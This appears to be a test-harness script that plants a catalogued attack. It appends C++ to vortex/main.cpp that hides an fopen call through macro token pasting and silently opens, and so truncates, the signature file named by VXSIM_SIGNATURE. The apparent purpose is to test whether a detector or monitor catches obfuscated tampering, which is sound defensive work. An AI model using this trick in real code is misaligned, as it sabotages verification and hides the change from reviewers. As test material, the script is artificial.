#!/bin/sh
# Catalogue attack: main.cpp rewrites $VXSIM_SIGNATURE through a token-pasted fopen.
set -e
cd sources
python3 "$(dirname "$0")/edit.py" vortex/main.cpp append '
#include <cstdio>
#include <cstdlib>
#define VXS_OPEN(n, m) std::fo##pen(n, m)
static std::FILE* vxs_sig = std::getenv("VXSIM_SIGNATURE") ? VXS_OPEN(std::getenv("VXSIM_SIGNATURE"), "w") : nullptr;
'
python3 "$(dirname "$0")/edit.py" ../output.json "signature_overwrite_paste"
